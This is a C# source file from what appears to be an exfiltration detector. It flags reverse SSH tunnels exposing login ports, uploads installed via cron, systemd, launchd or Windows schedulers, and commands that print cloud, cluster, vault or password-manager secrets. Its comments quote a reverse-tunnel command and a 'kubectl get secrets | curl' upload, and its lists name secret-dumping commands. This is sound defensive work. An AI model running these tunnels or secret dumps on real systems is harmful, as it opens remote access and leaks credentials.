namespace Custos.Detection.Exfiltration;

/// <summary>
/// What makes a transfer outlast the moment it is asked for, or reach data no file holds: a reverse tunnel that lets a
/// remote host into this machine ("ssh -fN -R 2222:localhost:22 user@203.0.113.9"), a scheduler that runs an upload
/// again and again (a crontab line, a systemd unit, a launchd agent, a Windows scheduled task), and the secret stores
/// whose output is worth stealing when piped into an upload ("kubectl get secrets -A -o yaml | curl -T - …").
/// </summary>
internal static class StandingAccess
{
    // Local services a reverse tunnel exposes to whoever holds the remote end: a shell or a desktop.
    private static readonly string[] RemoteLoginPorts = ["22", "3389", "5900", "5985", "5986", "23"];

    // ssh's flags that take no value, bundled before "R" ("-fNR").
    private static readonly System.Buffers.SearchValues<char> BundledFlags = System.Buffers.SearchValues.Create("fNnTqgvCAX46");

    // Words that install a command to run again: cron, systemd, launchd, the Windows task scheduler.
    private static readonly string[] Schedulers =
    [
        "crontab", "* * *", "@reboot", "@hourly", "@daily", "/etc/cron", "execstart=", "oncalendar=", "onunitactivesec=", "systemctl enable", "systemctl --user enable",
        "launchagents", "launchdaemons", "launchctl", "startinterval", "startcalendarinterval", "schtasks", "scheduledtask", "register-scheduledjob",
    ];

    // Commands that print secrets held by a cluster, a cloud or a password manager.
    private static readonly (string Command, string What)[] SecretStores =
    [
        ("kubectl get secret", "the cluster's secrets"), ("kubectl describe secret", "the cluster's secrets"), ("oc get secret", "the cluster's secrets"),
        ("aws secretsmanager get-secret-value", "a cloud secret"), ("aws ssm get-parameter", "a cloud secret"), ("gcloud secrets versions access", "a cloud secret"),
        ("az keyvault secret show", "a cloud secret"), ("vault kv get", "a vault secret"), ("vault read ", "a vault secret"), ("op read ", "a password manager's secret"),
        ("op item get", "a password manager's secret"), ("security find-generic-password", "the keychain's passwords"), ("security find-internet-password", "the keychain's passwords"),
        ("gh auth token", "the GitHub token"), ("docker-credential-", "the registry credentials"), ("heroku config", "an app's configuration secrets"), ("doppler secrets", "a vault secret"),
    ];

    /// <summary>
    /// The reason an ssh command's options open a reverse tunnel ("-R 2222:localhost:22", "-fNR 0.0.0.0:8022:localhost:22"),
    /// strong when what it exposes is a remote login; null when none does. Local ("-L") and dynamic ("-D") forwards reach
    /// out from this machine and are how tunnels are documented; a reverse one lets the other side in.
    /// </summary>
    public static (string Reason, double Weight)? ReverseTunnel(ReadOnlySpan<char> own)
    {
        var expectSpec = false;
        foreach (var range in own.Split(' '))
        {
            var token = own[range].Trim("\"'\t`");
            if (token.IsEmpty)
            {
                continue;
            }

            ReadOnlySpan<char> spec = [];
            if (expectSpec)
            {
                spec = token;
                expectSpec = false;
            }
            else if (token.Length >= 2 && token[0] == '-' && token[1] != '-')
            {
                var r = token.IndexOf('R');
                if (r < 0 || token[1..r].ContainsAnyExcept(BundledFlags))
                {
                    continue; // "-R" is the last of a bundle of flags that take no value ("-fNR"), or it is not there
                }

                if (r == token.Length - 1)
                {
                    expectSpec = true;
                    continue;
                }

                spec = token[(r + 1)..];
            }
            else
            {
                continue;
            }

            // "[bind:]port:host:hostport": what is exposed is the last part.
            var colon = spec.LastIndexOf(':');
            if (colon < 0)
            {
                return null;
            }

            var port = spec[(colon + 1)..];
            foreach (var login in RemoteLoginPorts)
            {
                if (port.SequenceEqual(login))
                {
                    return ("opens a reverse tunnel that lets the remote host log in to this machine", 0.6);
                }
            }

            return ("opens a reverse tunnel to a local port", 0.35);
        }

        return null;
    }

    /// <summary>Whether the line holding the command at [start, end) installs it to run again (looked at most 300 characters back).</summary>
    public static bool Scheduled(string text, int start, int end, Scanning.ScanWork work)
    {
        var from = start;
        while (from > 0 && start - from < 300 && text[from - 1] != '\n')
        {
            from--;
        }

        work.TriggerChars += start - from;
        var line = text.AsSpan(from, end - from);
        foreach (var word in Schedulers)
        {
            if (line.Contains(word, StringComparison.OrdinalIgnoreCase))
            {
                return true;
            }
        }

        return false;
    }

    /// <summary>Which secret store the piped-in <paramref name="source"/> reads, or null.</summary>
    public static string? SecretStore(ReadOnlySpan<char> source)
    {
        foreach (var (command, what) in SecretStores)
        {
            if (source.Contains(command, StringComparison.OrdinalIgnoreCase))
            {
                return what;
            }
        }

        return null;
    }
}
